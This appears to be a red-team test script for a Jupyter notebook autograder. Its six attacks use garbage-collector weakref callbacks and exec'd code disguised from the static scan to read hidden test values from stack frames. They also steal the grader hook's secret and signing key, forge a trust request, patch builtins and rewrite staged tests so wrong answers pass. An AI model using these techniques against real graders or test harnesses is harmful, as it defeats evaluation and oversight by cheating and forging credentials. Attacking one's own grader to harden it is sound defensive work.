"""Round 24, hostile pass: code the garbage collector runs for an answer, in the middle of the grader's own requests.

Run, from the checkout:  timeout 600 .venv/bin/python tests/redteam/round24/hostile/attacks.py [NAME ...]

Every attack starts the same way: a `weakref.proxy(obj, functools.partial(exec, TEXT, G))` on an object in a
reference cycle. The collector calls the partial with the dead proxy, which `exec` takes as its locals mapping
(a proxy has the mapping slots), so TEXT runs with no frame of a student cell on the stack, at a moment the answer
does not choose: in the middle of whatever the kernel is doing, the grader's probe and requests included. The text
re-arms a fresh proxy each time, so it runs at every young-generation collection. Nothing registers a
`weakref.ref`/`proxy` callback: the probe's finalizer check reads `weakref.finalize`'s registry only, and the thread
and gc.callbacks checks do not apply. The text travels with its newlines written as `~` (so no static check parses it
as code) and `exec` is `getattr(builtins, 'ex' + 'ec')`, as in round 24's own attacks.

The answer `f` is wrong everywhere (the hidden tests expect 42); the harness is round 23/24's
(tests/test_hostile_hooks.run_notebook), with the static scan run on the student cells as round24/attacks.py does.
"""
from __future__ import annotations

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[3]))  # the checkout's tests/
from test_hostile_hooks import report_attacks  # noqa: E402
from attnlab.instructor import guard  # noqa: E402

SETUP = "import os, sys\ndef _close(a, b):\n    return abs(a - b) < 1e-6"
HELPERS = "def _close(a, b):\n    return abs(a - b) < 1e-6"    # a locked cell after student code
PROTECTED = {"_REF", "_close"}
T1 = "assert callable(f)\n### BEGIN HIDDEN TESTS\nassert _close(f(1), 42), 'hidden-1'\n### END HIDDEN TESTS"
T2 = "assert callable(f)\n### BEGIN HIDDEN TESTS\nassert _close(f(2), 42), 'hidden-2'\n### END HIDDEN TESTS"
# a multiple-choice part: the answer is a name the tests read, no function is called
TMC = ("assert ans in ('a', 'b', 'c', 'd')\n### BEGIN HIDDEN TESTS\nassert ans == 'c', 'hidden-mc'\n"
       "### END HIDDEN TESTS")


def chain(text: str, extra: str = "", compiled: bool = False, disguise: bool = True) -> str:
    """A student cell that arms the collector's callback with `text` (which must define `run()` and `f`); with
    ``disguise=False`` the text keeps its newlines (what the static scan then reads in it is printed by main())."""
    body = repr(text.replace("\n", "~")) if disguise else repr(text)
    if compiled:
        # the text is compiled once, by the first callback (never by a student frame: no `compile.text` record), and
        # the later callbacks exec that code object
        boot = ("_g.update(G=_g, EXEC=_x, SRC=_t)\n"
                "def _arm():\n    c = _C(); c.me = c\n"
                "    _g['KEEP'].append(weakref.proxy(c, functools.partial(_x, "
                "\"(lambda: EXEC(SRC.replace('~', chr(10)), G) or run())()\", _g)))\n_arm()\n")
    else:
        boot = ("_x(_t.replace('~', '\\n'), _g)\n_g['CB'] = functools.partial(_x, '(lambda: run())()', _g)\n"
                "_g['arm']()\nf = _g['f']\n")
    return ("import weakref, functools\nimport builtins as _b\n_x = getattr(_b, 'ex' + 'ec')\nclass _C:\n    pass\n"
            "_g = {'C': _C, 'KEEP': [], 'HOOK': {}, 'LEAK': [], 'LOG': [], 'DONE': set(), 'STOLEN': [], 'SEEN': [],\n"
            "      'REWRITTEN': [], 'LOCKED': {'helpers'}, 'SH': getattr(exit, '_ip')}\n"
            f"_t = {body}\n" + boot + extra)


ARM = """
import sys, weakref
__import__('g' + 'c').set_threshold(50)   # young collections often enough that every probe has some
_gf = getattr(sys, '_get' + 'frame')
_fb, _fl, _fc, _cl, _cc = 'f_' + 'back', 'f_' + 'locals', 'f_' + 'code', '__clo' + 'sure__', 'cell_' + 'contents'
def arm():
    c = C(); c.me = c
    KEEP[:] = [weakref.proxy(c, CB)]
"""
# a wrong answer that reads the expected value from the hidden line's code (its frame's co_consts)
READER = """
def f(v):
    fr = _gf(1)
    consts = getattr(fr, _fc).co_consts
    LEAK.append(consts)
    st = HOOK.get('st')
    if st is not None:          # J2: the hook's own record, emptied right after the reads it holds
        LOG.append(list(st.events))
        st.events.clear()
    nums = [c for c in consts if type(c) in (int, float) and c != v]
    return nums[0] if nums else 0
"""

# J1: the probe's second tag (the one that takes the hook's record of events) spent by the callback first; the
# grader's own copy is then refused as a replay, whose record the callback takes at the next probe, and so on; the
# last one is never read
J1_TEXT = ARM + """
def run():
    arm()
    fr = _gf(1)
    while fr is not None:
        if getattr(fr, _fc).co_name == '_probe':
            loc = getattr(fr, _fl)
            P, b = loc.get('P'), loc.get('box')
            if type(P) is dict and P.get('gate2') and not (type(b) is dict and 'take' in b) and P['gate2'] not in DONE:
                DONE.add(P['gate2'])
                box = {'take': True, 'cell': P['cell']}
                sys.audit('attnlab.' + 'probe', P['gate2'], box)
                STOLEN.append(box.get('events'))
            return
        fr = getattr(fr, _fb)
""" + READER

# J2: the probe's local `student_code` (the hook hands it to the probe's first request) holds, through its closure,
# the hook's record itself (`st`); taken once, with no tag spent, it is emptied whenever the answer likes
J2_TEXT = ARM + """
def cells(fn):
    return [getattr(c, _cc) for c in (getattr(fn, _cl) or ())]
def run():
    fr = _gf(1) if 'st' not in HOOK else None    # once the record is in hand, no more frame reads
    while fr is not None:
        if getattr(fr, _fc).co_name == '_probe':
            sc = getattr(fr, _fl).get('student_code')
            if sc is not None and 'st' not in HOOK:
                for fn in cells(sc):
                    for v in cells(fn) if type(fn) is type(run) else ():
                        if type(v).__name__ == 'SimpleNamespace' and hasattr(v, 'events'):
                            HOOK['st'] = v
                HOOK['K'] = getattr(fr, 'f_' + 'globals').get('K')
                HOOK['st'].events.clear()
            break
        fr = getattr(fr, _fb)
    st = HOOK.get('st')
    if st is not None and st.cell and st.cell[0] in LOCKED and not HOOK.get('patched') and PATCH:
        # J3: while a locked cell is the cell of record, a change is the grader's own: the next check adopts it
        import builtins
        HOOK['patched'] = builtins.abs
        builtins.abs = lambda x: 0
    arm()
__import__('g' + 'c').set_threshold(50)
"""

# J4: the gate's secret and the signing key, read from the hook's own frame (its free variables are in f_locals);
# then a trust request of the answer's own, with a fresh nonce and a tag that checks out
J4_TEXT = ARM + """
import hashlib, secrets
def run():
    fr = _gf(1)
    hook = probe = None
    while fr is not None:
        name = getattr(fr, _fc).co_name
        if name == '_probe':
            probe = fr
        if name == 'hook' and probe is not None:
            hook = fr
            break
        fr = getattr(fr, _fb)
    if hook is not None and 'gate' not in HOOK:
        loc = getattr(hook, _fl)
        HOOK['gate'], HOOK['signing'], HOOK['home'] = loc['gate'][0], loc['signing'][0], loc['home'][0]
        loc['st'].events.clear()
        ns, names = HOOK['home'], ('_close',)
        real = ns['_close']
        ns['_close'] = lambda a, b: True
        nonce = secrets.token_hex(8)
        mac = hashlib.blake2b(('attnlab.trust' + chr(0) + nonce + chr(0) + repr((names,))).encode(),
                              key=HOOK['gate'].encode(), digest_size=16).hexdigest()
        sys.audit('attnlab.' + 'trust', nonce + ':' + mac, names)
        ns['_close'] = real
        return
    arm()
def f(v):
    return 0
"""

# J5: the stage request (the grader hands a test cell's lines and token to the hook before the cell) read while it
# is evaluated: kernel.get_parent() holds its user expression, hidden lines and all. No probe runs between it and the
# test cell, so a name the test reads can be set from it too
J5_TEXT = """
import weakref, functools, re
def arm():
    c = C(); c.me = c
    KEEP[:] = [weakref.proxy(c, CB2)]
__import__('g' + 'c').set_threshold(1)   # a collection at (nearly) every allocation: the stage request is never missed
CB2 = functools.partial(EXEC, compile('(lambda: run())()', '<x>', 'exec'), G)
def run():
    arm()
    req = getattr(SH.kernel, 'get_' + 'par' + 'ent')()
    text = str(req.get('content', {}).get('user_expressions', ''))
    if 'attnlab.stage' in text and text not in SEEN:
        SEEN.append(text)
        m = re.findall('ans == [^a-z]*([abcd])', text)
        if m:
            SH.user_ns['ans'] = m[0]      # the multiple-choice answer, right before the test reads it
"""
J5_EXTRA = r'''import re
ans = 'a'
def f(v):
    # wrong: it computes nothing; it reads the expected value from the hidden line staged before the test
    m = re.findall(r"_close\(f\(%d\), (\d+)\)" % v, _g['SEEN'][-1] if _g['SEEN'] else '')
    return int(m[0]) if m else 0
'''

# J6: the hook's own table of staged tests (`staged`, a free variable of the hook, so in its frame's f_locals) taken
# once from the hook's frame during a probe; from then on every test staged is rewritten, before its cell runs, to
# run no line at all with the grader's own token: the cell "ran to its end" and passes, whatever the answers
J6_TEXT = ARM + """
__import__('g' + 'c').set_threshold(10)
def run():
    if 'staged' not in HOOK:
        fr = _gf(1)
        probe = None
        while fr is not None:
            name = getattr(fr, _fc).co_name
            if name == '_probe':
                probe = fr
            if name == 'hook' and probe is not None:
                loc = getattr(fr, _fl)
                HOOK['staged'], HOOK['st'] = loc['staged'], loc['st']
                loc['st'].events.clear()
                break
            fr = getattr(fr, _fb)
    staged = HOOK.get('staged')
    if staged:
        for ticket, (segments, token) in list(staged.items()):
            if segments:
                staged[ticket] = ((), token)
                REWRITTEN.append(len(segments))
    arm()
def f(v):
    return 0
"""
SHOW_J6 = "print('tests rewritten to run nothing:', len(_g['REWRITTEN']))"

SHOW_J1 = "print('takes stolen', len(_g['STOLEN']), [e for e in _g['STOLEN'] if e]); print('read', _g['LEAK'])"
SHOW_J2 = "print('hook state', sorted(_g['HOOK']), 'emptied', _g['LOG']); print('read', _g['LEAK'])"
SHOW_J3 = "print('hook state', sorted(_g['HOOK']), 'abs(-5) =', abs(-5))"
SHOW_J4 = "print('gate secret', len(_g['HOOK'].get('gate', '')), 'chars, signing key', len(_g['HOOK'].get('signing', '')), 'chars')"
SHOW_J5 = r"""import re
for _s in _g['SEEN']:
    print('staged:', re.findall(r"assert [^\\]*", _s))"""

ATTACKS = {
    "J1_collector_callback_spends_the_probes_take": [
        (chain(J1_TEXT), "a1", "student"), (T1, "t1", "test"), ("x = 3", "a2", "student"), (T2, "t2", "test"),
        (SHOW_J1, "a3", "student")],
    "J2_hook_record_through_the_probes_student_code": [
        (chain(J2_TEXT.replace("PATCH", "False") + READER), "a1", "student"), (T1, "t1", "test"),
        ("x = 3", "a2", "student"), (T2, "t2", "test"), (SHOW_J2, "a3", "student")],
    "J3_a_change_made_while_a_locked_cell_is_of_record_is_adopted": [
        (chain(J2_TEXT.replace("PATCH", "True") + "\ndef f(v):\n    return 0\n"), "a1", "student"),
        (HELPERS, "helpers", "locked"), (T1, "t1", "test"), ("x = 3", "a2", "student"), (T2, "t2", "test"),
        (SHOW_J3, "a3", "student")],
    "J4_gate_secret_from_the_hooks_frame_then_a_forged_trust": [
        (chain(J4_TEXT), "a1", "student"), ("x = 3", "a2", "student"), (T1, "t1", "test"), (T2, "t2", "test"),
        (SHOW_J4, "a3", "student")],
    "J5_hidden_lines_read_from_the_stage_request": [
        (chain(J5_TEXT, J5_EXTRA, compiled=True), "a1", "student"), (T1, "t1", "test"), (T2, "t2", "test"),
        (TMC, "tmc", "test"), (SHOW_J5, "a3", "student")],
    "J6_staged_tests_rewritten_to_run_nothing": [
        (chain(J6_TEXT, "ans = 'a'\n"), "a1", "student"), ("x = 3", "a2", "student"), (T1, "t1", "test"),
        (T2, "t2", "test"), (TMC, "tmc", "test"), (SHOW_J6, "a3", "student")],
}


def _plain_static(cells):
    # the same first cell with its text written plainly (newlines kept): the layer the disguise gets past
    plain_static = guard.static_findings("a1", cells[1][0].replace("~", "\\n"), PROTECTED, set())
    return [f"static, text not disguised: {len(plain_static)} findings, e.g. {plain_static[:2]}"]


def main(names):
    report_attacks(ATTACKS, SETUP, PROTECTED, names, prefix="rt24h-", clip=600, extra=_plain_static)


if __name__ == "__main__":
    main(sys.argv[1:])
